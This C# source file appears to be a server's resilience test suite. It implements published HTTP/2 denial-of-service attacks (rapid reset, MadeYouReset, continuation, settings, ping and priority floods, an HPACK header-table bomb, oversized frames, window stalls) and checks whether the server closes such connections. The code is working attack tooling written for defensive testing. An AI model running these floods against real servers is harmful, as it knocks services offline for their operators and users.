namespace Xopc.Testing.Attacks;

/// <summary>Floods of HTTP/2, the published ones.</summary>
public static class Http2Attacks
{
    private const int Batch = 200;
    private static readonly TimeSpan Stalled = TimeSpan.FromMilliseconds(300);

    public static IReadOnlyList<Attack> All { get; } =
    [
        new("rapid reset", Ends: true, (address, token, scale, cancel) => RapidResetAsync(address, token, scale * 10, "/health/services", cancel)),
        new("rapid reset of what is answered at once", Ends: false, (address, token, scale, cancel) => RapidResetAsync(address, token, scale, "/openapi.json", cancel)), // no work is left to pile up
        new("made you reset, window of nothing", Ends: true, (address, token, scale, cancel) => MadeYouResetAsync(address, token, scale, [0, 0, 0, 0], cancel)),
        new("made you reset, window too large", Ends: true, (address, token, scale, cancel) => MadeYouResetAsync(address, token, scale, [0x7f, 0xff, 0xff, 0xff], cancel)),
        new("continuation flood", Ends: true, (address, token, scale, cancel) => FloodAsync(
            address, scale * 100, (wire, i) => wire.Add(i == 0 ? Http2Wire.Headers : Http2Wire.Continuation, 0, 1, i == 0 ? Http2Wire.Request("GET", "/health", token) : Http2Wire.Literals(("x", "y"))), cancel)),
        new("continuation flood of empty frames", Ends: false, (address, token, scale, cancel) => FloodAsync( // until the time for headers is over
            address, scale * 100, (wire, i) => wire.Add(i == 0 ? Http2Wire.Headers : Http2Wire.Continuation, 0, 1, i == 0 ? Http2Wire.Request("GET", "/health", token) : []), cancel)),
        new("settings flood", Ends: false, (address, _, scale, cancel) => FloodAsync(address, scale * 10, (wire, _) => wire.Add(Http2Wire.Settings, 0, 0, Http2Wire.SettingsOf((4, 65535))), cancel)),
        new("ping flood", Ends: false, (address, _, scale, cancel) => FloodAsync(address, scale * 10, (wire, _) => wire.Add(Http2Wire.Ping, 0, 0, new byte[8]), cancel)),
        new("flood of frames nobody knows", Ends: false, (address, _, scale, cancel) => FloodAsync(address, scale, (wire, _) => wire.Add(0xfa, 0, 0, new byte[1024]), cancel)),
        new("priority flood", Ends: false, (address, _, scale, cancel) => FloodAsync(address, scale * 10, (wire, i) => wire.Add(Http2Wire.Priority, 0, (2 * i) + 1, new byte[5]), cancel)),
        new("flood of empty data", Ends: false, (address, token, scale, cancel) => FloodAsync(
            address, scale * 10, (wire, i) => wire.Add(i == 0 ? Http2Wire.Headers : Http2Wire.Data, i == 0 ? Http2Wire.EndHeaders : (byte)0, 1, i == 0 ? Http2Wire.Request("POST", "/api/agent", token) : []), cancel)),
        new("a frame of 1 MB", Ends: true, (address, _, _, cancel) => FloodAsync(address, 1, (wire, _) => wire.Add(Http2Wire.Headers, 0, 1, [], length: 1024 * 1024), cancel)),
        new("a bomb in the header table", Ends: true, (address, token, _, cancel) => FloodAsync(address, 1, (wire, _) => AddBomb(wire, token), cancel)),
        new("resets of streams that never were", Ends: true, (address, _, scale, cancel) => FloodAsync(address, scale, (wire, i) => wire.Add(Http2Wire.Reset, 0, (2 * i) + 1, [0, 0, 0, 8]), cancel)),
        new("more streams than there may be", Ends: false, (address, token, scale, cancel) => FloodAsync(
            address, Math.Max(1000, scale), (wire, i) => wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders, (2 * i) + 1, Http2Wire.Request("POST", "/api/agent", token)), cancel)),
        new("a window of nothing", Ends: false, WindowStallAsync),
    ];

    /// <summary>Connections that have begun something and do not go on: the server has to end them.</summary>
    public static IReadOnlyList<(string Name, Func<Uri, string, CancellationToken, Task<Http2Wire>> Begin)> Stalls { get; } =
    [
        ("headers that do not end", (address, token, cancel) => BeginAsync(address, wire =>
        {
            wire.Add(Http2Wire.Headers, 0, 1, Http2Wire.Request("GET", "/health", token));
            wire.Add(Http2Wire.Continuation, 0, 1, []);
        }, cancel)),
        ("a body that does not end", (address, token, cancel) => BeginAsync(address, wire =>
        {
            wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders, 1, Http2Wire.Request("POST", "/api/sessions", token, ("content-type", "application/json")));
            wire.Add(Http2Wire.Data, 0, 1, "{"u8);
        }, cancel)),
        ("answers that may not be sent", (address, token, cancel) => BeginAsync(address, wire =>
        {
            for (var i = 0; i < 100; i++)
            {
                wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders | Http2Wire.EndStream, (2 * i) + 1, Http2Wire.Request("GET", "/openapi.json", token));
            }
        }, cancel, (4, 0))),
    ];

    private static async Task<Http2Wire> BeginAsync(Uri address, Action<Http2Wire> begin, CancellationToken cancellationToken, params (ushort Id, uint Value)[] settings)
    {
        var wire = await Http2Wire.ConnectAsync(address, cancellationToken, settings);
        begin(wire);
        await wire.FlushAsync(cancellationToken);
        return wire;
    }

    private static Task<bool> RapidResetAsync(Uri address, string token, int times, string path, CancellationToken cancellationToken)
    {
        var request = Http2Wire.Request("GET", path, token);
        return FloodAsync(
            address, times,
            (wire, i) =>
            {
                wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders | Http2Wire.EndStream, (2 * i) + 1, request);
                wire.Add(Http2Wire.Reset, 0, (2 * i) + 1, [0, 0, 0, 8]);
            },
            cancellationToken, 10 * Batch);
    }

    private static Task<bool> MadeYouResetAsync(Uri address, string token, int scale, byte[] window, CancellationToken cancellationToken)
    {
        var request = Http2Wire.Request("POST", "/api/agent", token);
        return FloodAsync(
            address, scale,
            (wire, i) =>
            {
                wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders, (2 * i) + 1, request);
                wire.Add(Http2Wire.WindowUpdate, 0, (2 * i) + 1, window);
            },
            cancellationToken);
    }

    // 4,000 bytes are remembered once and asked for 12,000 times: 48 MB of headers in one frame.
    private static void AddBomb(Http2Wire wire, string token)
    {
        var block = new MemoryStream();
        block.Write(Http2Wire.Request("GET", "/health", token));
        var remembered = Http2Wire.Literals(("x", new string('v', 3_900)));
        remembered[0] = 0x40; // with indexing
        block.Write(remembered);
        block.Write(Enumerable.Repeat((byte)0xbe, 12_000).ToArray()); // the newest entry
        wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders | Http2Wire.EndStream, 1, block.ToArray());
    }

    /// <summary>A hundred answers that may not be sent, for as long as the server bears it; the client leaves when nothing happens any more.</summary>
    private static async Task<bool> WindowStallAsync(Uri address, string token, int scale, CancellationToken cancellationToken)
    {
        await using var wire = await Http2Wire.ConnectAsync(address, cancellationToken, (4, 0));
        for (var i = 0; i < 100; i++)
        {
            wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders | Http2Wire.EndStream, (2 * i) + 1, Http2Wire.Request("GET", "/openapi.json", token));
        }

        return !await wire.FlushAsync(cancellationToken) || await EndsAsync(wire, wire.ReadToEndAsync(polite: true, cancellationToken));
    }

    // Nothing is read while the flood runs: answers that pile up are part of it.
    private static async Task<bool> FloodAsync(Uri address, int times, Action<Http2Wire, int> add, CancellationToken cancellationToken, int batch = Batch)
    {
        await using var wire = await Http2Wire.ConnectAsync(address, cancellationToken);
        for (var i = 0; i < times; i++)
        {
            add(wire, i);
            if (i % batch == batch - 1)
            {
                var sending = wire.FlushAsync(cancellationToken);
                if (await Task.WhenAny(sending, Task.Delay(Stalled, cancellationToken)) != sending)
                {
                    return false; // it takes no more: the buffers between are the bound
                }

                if (!await sending)
                {
                    return true;
                }
            }
        }

        return !await wire.FlushAsync(cancellationToken) || await EndsAsync(wire, wire.ReadToEndAsync(polite: false, cancellationToken));
    }

    private static async Task<bool> EndsAsync(Http2Wire wire, Task reading)
    {
        var ended = await Task.WhenAny(reading, Task.Delay(Stalled)) == reading || wire.Farewell is not null;
        await wire.DisposeAsync();
        try
        {
            await reading;
        }
        catch (ObjectDisposedException)
        {
            // It was this end that left.
        }

        return ended;
    }
}
